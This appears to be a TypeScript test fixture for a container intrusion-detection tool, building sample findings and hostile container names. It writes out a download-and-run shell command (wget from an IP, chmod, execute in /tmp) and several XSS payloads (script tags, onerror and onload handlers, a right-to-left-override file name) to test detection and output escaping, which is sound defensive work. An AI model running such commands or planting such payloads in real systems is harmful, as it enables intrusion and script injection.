import type { ChangeItem, ContainerStatus } from '../../src/protocol/answers.ts'
import type { ContainerRef, ProcessRef } from '../../src/protocol/findings.ts'
import type { NewFinding, ProducedContainer } from './producer.ts'

/** Names that try to be more than text, wherever a container chooses one. */
export const script = `<script>globalThis.owned = 1</script><img src=x onerror="globalThis.owned=1">`

export function containerRef(name: string, seed: string): ContainerRef {
  return { id: seed.repeat(64).slice(0, 64), name, image: `herd/${name}:live`, engine: 'docker' }
}

export const web = containerRef('web', 'a')
export const store = containerRef('redis', 'b')
/** Its image's name and all below are hostile. */
export const hostile: ContainerRef = { ...containerRef(script, 'c'), image: `${script}:latest` }

export function processRef(
  pid: number,
  command: string,
  parentPid: number,
  argv: readonly string[],
): ProcessRef {
  return {
    pid,
    startTicks: pid * 7,
    parentPid,
    command,
    exe: { path: `/bin/${command}` },
    argv,
    uid: 100_000,
    uidInside: 0,
  }
}

const shell = processRef(412, 'sh', 1, [
  'sh',
  '-c',
  'wget -O /tmp/.x http://198.51.100.7/x && chmod +x /tmp/.x && /tmp/.x',
])

/** A shell by `docker exec` drops a program and runs it: four findings, one alert. */
export function intrusion(
  container: ContainerRef,
  evidence: NonNullable<NewFinding['evidence']>,
): NewFinding[] {
  const wget = processRef(413, 'wget', 412, ['wget', '-O', '/tmp/.x', 'http://198.51.100.7/x'])
  const dropped = processRef(415, '.x', 412, ['/tmp/.x'])
  const base = {
    container,
    group: `${container.id} 412`,
    count: 1,
    byExec: true,
    source: 'fanotify',
  } as const
  return [
    {
      ...base,
      kind: 'change',
      severity: 'medium',
      reasons: ['temporary-folder'],
      summary: 'a file /tmp/.x was written',
      path: { path: '/tmp/.x' },
      change: {
        kind: 'added',
        type: 'file',
        now: { mode: '100644', uid: 0, gid: 0, size: 64, sha256: evidence[0]?.sha256 ?? 'e'.repeat(64) },
        was: null,
      },
      processes: [wget, shell],
      evidence,
    },
    {
      ...base,
      kind: 'change',
      severity: 'critical',
      reasons: ['executable'],
      summary: 'a new program /tmp/.x',
      path: { path: '/tmp/.x' },
      change: {
        kind: 'added',
        type: 'file',
        now: { mode: '100755', uid: 0, gid: 0, size: 64, sha256: evidence[0]?.sha256 ?? 'e'.repeat(64) },
        was: null,
      },
      processes: [processRef(414, 'chmod', 412, ['chmod', '+x', '/tmp/.x']), shell],
    },
    {
      ...base,
      kind: 'exec',
      severity: 'critical',
      reasons: ['not-in-image'],
      summary: 'the program /tmp/.x, which is not in the image, was denied',
      path: { path: '/tmp/.x' },
      exec: { verdict: 'denied', from: 'layer', verdictMicros: 412 },
      processes: [dropped, shell],
    },
    {
      ...base,
      kind: 'change',
      severity: 'high',
      reasons: ['image-file'],
      summary: 'the file /usr/bin/curl of the image was changed',
      path: { path: '/usr/bin/curl' },
      change: {
        kind: 'modified',
        type: 'file',
        now: { mode: '104755', uid: 0, gid: 0, size: 90_112, sha256: 'd'.repeat(64) },
        was: { mode: '100755', uid: 0, gid: 0, size: 260_328, sha256: '1'.repeat(64) },
      },
      processes: [shell],
    },
  ]
}

/** Every field that a container controls holds markup. */
export function hostileFinding(): NewFinding {
  return {
    container: hostile,
    group: script,
    count: 1,
    byExec: true,
    source: 'sweep',
    kind: 'change',
    severity: 'high',
    reasons: ['executable', script],
    summary: `a new program /tmp/${script}`,
    path: { path: `/tmp/${script}\u202egnp.exe` },
    change: {
      kind: 'added',
      type: script.slice(0, 30),
      now: { mode: '100755', uid: 0, gid: 0, size: 1, sha256: '2'.repeat(64) },
      was: null,
    },
    processes: [
      {
        ...processRef(9, script.slice(0, 15), 1, [script, '"><svg onload=globalThis.owned=1>']),
        exe: { path: `/${script}` },
      },
    ],
    details: { note: script },
  }
}

function change(path: string, expected: boolean, rule: string | null = null): ChangeItem {
  return {
    path: { path },
    kind: 'added',
    type: 'file',
    expected,
    rule,
    severity: expected ? null : 'high',
    reasons: expected ? [] : ['executable'],
    now: { mode: '100644', uid: 0, gid: 0, size: 120 },
    was: null,
  }
}

export function produced(container: ContainerRef, change: Partial<ContainerStatus> = {}): ProducedContainer {
  const changes = exampleChanges(container)
  return {
    status: {
      container,
      state: 'running',
      exec: 'alert',
      expected: changes.filter(({ expected }) => expected).length,
      unexpected: changes.filter(({ expected }) => !expected).length,
      worst: changes.some(({ expected }) => !expected) ? 'high' : null,
      processes: 2,
      missing: [],
      fromFirstInstruction: true,
      lastSweepAt: new Date().toISOString(),
      ...change,
    },
    changes,
    processes: [
      { process: processRef(1, 'nginx', 0, ['nginx', '-g', 'daemon off;']), user: 'root', expected: true },
      { process: processRef(412, 'sh', 1, ['sh', '-c', container.name]), user: 'root', expected: false },
    ],
    policy: [
      { text: '/var/log/nginx/**', source: 'web.yaml:4' },
      { text: 'exec: deny', source: `label paddock.exec ${container.image}` },
    ],
  }
}

function exampleChanges(container: ContainerRef): ChangeItem[] {
  if (container === store) return [change('/data/dump.rdb', true, 'redis.yaml:3')]
  return [
    change('/tmp/.x', false),
    change(`/etc/${container.name.slice(0, 200)}`, false),
    change('/var/log/nginx/access.log', true, 'web.yaml:4'),
    change('/var/log/nginx/error.log', true, 'web.yaml:4'),
    change('/run/nginx.pid', true, 'web.yaml:5'),
  ]
}
